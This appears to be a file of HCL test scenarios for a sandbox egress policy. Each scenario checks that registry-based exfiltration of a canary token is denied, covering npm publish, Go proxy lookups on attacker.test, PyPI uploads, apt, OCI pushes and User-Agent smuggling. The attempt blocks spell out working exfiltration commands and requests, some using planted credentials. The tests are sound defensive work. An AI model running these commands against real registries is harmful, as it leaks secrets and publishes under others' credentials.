# Registries that are granted for reading, and what else the same hosts do.

scenario "npm-publish" {
  describe = "the worm's step: publish what was found, with a token of its own or of the owner"
  source   = "self-spreading npm packages of 2025"
  cases    = ["EXF-03", "CRED-01"]
  policy   = "policies/npm.hcl"
  given {
    file "package.json" { text = "{\"name\":\"@mallory/sink\",\"version\":\"1.0.0\",\"description\":\"${canary.token}\"}" }
    file ".npmrc" { text = "registry=https://npm.example.com/\n//npm.example.com/:_authToken=npm_planted\n" }
  }
  attempt {
    run { command = ["npm", "publish", "--access", "public", "--no-provenance", "--loglevel", "error"] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "npm-neighbours" {
  describe = "what the registry does besides installs"
  cases    = ["EXF-03", "EXF-11"]
  policy   = "policies/npm.hcl"
  for_each = {
    publish   = "PUT /mallory-sink"
    unpublish = "DELETE /left-pad/-/left-pad-1.0.0.tgz/-rev/1"
    tag       = "PUT /-/package/left-pad/dist-tags/latest"
    login     = "PUT /-/user/org.couchdb.user:mallory"
    web_login = "POST /-/v1/login"
    tokens    = "POST /-/npm/v1/tokens"
    audit     = "POST /-/npm/v1/security/advisories/bulk"
    quick     = "POST /-/npm/v1/security/audits/quick"
    access    = "POST /-/package/left-pad/access"
    team      = "PUT /-/team/acme/all/user"
    owner     = "PUT /left-pad/-rev/1"
    stage     = "POST /-/stage"
  }
  attempt {
    raw {
      connect = "npm.example.com:443"
      tls     = true
      bytes   = crlf("${each.value} HTTP/1.1\nHost: npm.example.com\nContent-Type: application/json\nConnection: close\nContent-Length: 41\n\n{\"name\":\"a\",\"a\":\"${canary.token}\"}")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "npm-reads-that-carry-text" {
  describe = "reads of the registry that take any text, or change something"
  cases    = ["EXF-06", "EXF-10"]
  policy   = "policies/npm.hcl"
  for_each = {
    search   = "/-/v1/search?size=1&text="
    write    = "/left-pad?write=true&note="
    user     = "/-/user/org.couchdb.user:"
    org      = "/-/org/"
    whoami   = "/-/whoami?"
    ping     = "/-/ping?"
    keys     = "/-/npm/v1/keys?"
    tarball  = "/left-pad/-/left-pad-1.0.0.tgz?"
    other    = "/left-pad/-/right-pad-1.0.0.tgz/"
    version  = "/left-pad/-/left-pad-1.0.0+"
    views    = "/-/all/static/today.json?"
  }
  attempt {
    http { url = "https://npm.example.com${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "npm-names-that-the-lockfile-does-not-have" {
  describe = "names and versions of packages as a channel: the lockfile has two of them"
  cases    = ["EXF-10"]
  policy   = "policies/npm-locked.hcl"
  for_each = {
    name     = "/x"
    scoped   = "/@acme%2f"
    scope    = "/@x"
    tarball  = "/left-pad/-/left-pad-1.0.0-"
  }
  attempt {
    http { url = "https://npm.example.com${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "npm-audit-with-the-real-client" {
  describe = "the client's own audit uploads the whole tree, private names included"
  cases    = ["EXF-11", "AUD-07"]
  policy   = "policies/npm.hcl"
  given {
    file "package.json" { text = "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"${canary.project}\":\"1.0.0\"}}" }
    file "package-lock.json" { text = "{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"requires\":true,\"packages\":{\"\":{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"${canary.project}\":\"1.0.0\"}},\"node_modules/${canary.project}\":{\"version\":\"1.0.0\"}}}" }
  }
  attempt {
    run { command = ["npm", "audit", "--audit=true", "--registry", "https://npm.example.com/", "--loglevel", "error"] }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "method_not_granted"]
    leak    = none
  }
}

scenario "go-module-on-the-attackers-host" {
  describe = "the proxy asks the host that a module path names: the path is delivered to it at once"
  cases    = ["EXF-10"]
  policy   = "policies/go.hcl"
  for_each = {
    list     = "/attacker.test/TOKEN/@v/list"
    latest   = "/attacker.test/TOKEN/@latest"
    info     = "/attacker.test/m/@v/v1.0.0-TOKEN.info"
    likeness = "/example.com/acmeTOKEN/@v/list"
    sumdb    = "/sumdb/sum.example.com/lookup/attacker.test/TOKEN@v1.0.0"
    query    = "/example.com/acme/@v/list?note=TOKEN"
    branch   = "/example.com/acme/@v/TOKEN.info"
  }
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["sh", "-c", "curl -sS \"https://go.example.com$(printf %s '${each.value}' | sed s/TOKEN/$TOKEN/)\""] }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "query_not_granted"]
    leak    = none
  }
}

scenario "go-get-of-a-module-that-does-not-exist" {
  describe = "the same with the client: import paths of a poisoned file"
  cases    = ["EXF-10"]
  policy   = "policies/go.hcl"
  needs    = ["go"]
  given {
    env = { TOKEN = canary.token }
    file "go.mod" { text = "module example.com/app\n\ngo 1.21\n" }
  }
  attempt {
    run { command = ["sh", "-c", "HOME=$PWD GOFLAGS=-modcacherw GOTOOLCHAIN=local GOPROXY=https://go.example.com GONOSUMDB=* GOVCS=*:off go get attacker.test/$TOKEN@v1.0.0"] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "python-upload" {
  describe = "a package is uploaded to the index that is granted for reading"
  cases    = ["EXF-03"]
  policy   = "policies/python.hcl"
  given {
    file "dist/sink-1.0.0.tar.gz" { text = canary.token }
  }
  attempt {
    run { command = ["curl", "-sS", "-u", "__token__:pypi-planted", "-F", ":action=file_upload", "-F", "content=@dist/sink-1.0.0.tar.gz", "https://pypi.example.com/legacy/"] }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "foreign_credential"]
    leak    = none
  }
}

scenario "python-neighbours" {
  describe = "search, accounts, minted tokens, files of others"
  cases    = ["EXF-03", "EXF-06", "EXF-10"]
  policy   = "policies/python.hcl"
  for_each = {
    search  = "https://pypi.example.com/search/?q="
    xmlrpc  = "https://pypi.example.com/pypi?"
    mint    = "https://pypi.example.com/_/oidc/"
    manage  = "https://pypi.example.com/manage/account/"
    name    = "https://pypi.example.com/simple/"
    verify  = "https://pypi.example.com/account/verify-email/?token="
    file    = "https://files.example.com/packages/"
    version = "https://files.example.com/packages/example-1.0.0-"
  }
  attempt {
    http { url = "${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "user-agent-of-an-installer" {
  describe = "the installer's User-Agent ends up in a public table, with a text of the environment's own"
  cases    = ["EXF-08"]
  policy   = "policies/python.hcl"
  given {
    env = { NOTE = canary.token }
  }
  attempt {
    run { command = ["sh", "-c", "curl -sS -A \"pip/24.2 {\\\"user_data\\\":\\\"$NOTE\\\"}\" https://pypi.example.com/simple/example/ -o /dev/null"] }
  }
  expect {
    leak    = none
    arrives = ["GET https://pypi.example.com/simple/example/"]
  }
}

scenario "apt-neighbours" {
  describe = "other suites, names of packages that do not exist, uploads"
  cases    = ["EXF-06", "EXF-10", "PATH-14"]
  policy   = "policies/apt.hcl"
  for_each = {
    suite    = "GET /debian/dists/sid/InRelease?"
    hash     = "GET /debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/"
    changes  = "GET /changelogs/"
    query    = "GET /debian/dists/bookworm/InRelease?"
    upload   = "PUT /debian/pool/main/h/hello/"
    security = "GET /debian-security/dists/"
    language = "GET /debian/dists/bookworm/main/i18n/Translation-"
  }
  attempt {
    raw {
      connect = "apt.example.com:80"
      bytes   = crlf("${each.value}${canary.token} HTTP/1.1\nHost: apt.example.com\nConnection: close\n\n")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "image-push" {
  describe = "layers are pushed to the registry that the base image comes from"
  cases    = ["EXF-03", "CRED-01"]
  policy   = "policies/ci.hcl"
  for_each = {
    start    = "POST /v2/mallory/sink/blobs/uploads/?digest="
    own      = "POST /v2/acme/base/blobs/uploads/?mount="
    mount    = "POST /v2/acme/base/blobs/uploads/?from=mallory/sink&mount="
    put      = "PUT /v2/acme/base/manifests/stable?"
    tag      = "GET /v2/acme/base/manifests/"
    referrer = "GET /v2/acme/base/referrers/"
    other    = "GET /v2/mallory/sink/blobs/sha256:"
    catalog  = "GET /v2/_catalog?n="
  }
  attempt {
    raw {
      connect = "oci.example.com:443"
      tls     = true
      bytes   = crlf("${each.value}${canary.token} HTTP/1.1\nHost: oci.example.com\nContent-Length: 0\nConnection: close\n\n")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "registries-that-nobody-granted" {
  describe = "the other ecosystems' registries, each with a way to send"
  cases    = ["EXF-03", "EXF-10"]
  policy   = "policies/npm.hcl"
  for_each = {
    crates_publish = "https://crates.example.com/api/v1/crates/new?"
    crates_search  = "https://crates.example.com/api/v1/crates?q="
    gems_push      = "https://gems.example.com/api/v1/gems?"
    gems_hook      = "https://gems.example.com/api/v1/web_hooks/fire?url="
    maven          = "https://maven.example.com/maven2/test/mallory/"
    models_commit  = "https://models.example.com/api/models/mallory/sink/commit/main?"
    models_files   = "https://models.example.com/mallory/sink/resolve/main/"
  }
  attempt {
    http {
      method = "POST"
      url    = "${each.value}${canary.token}"
      body   = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}
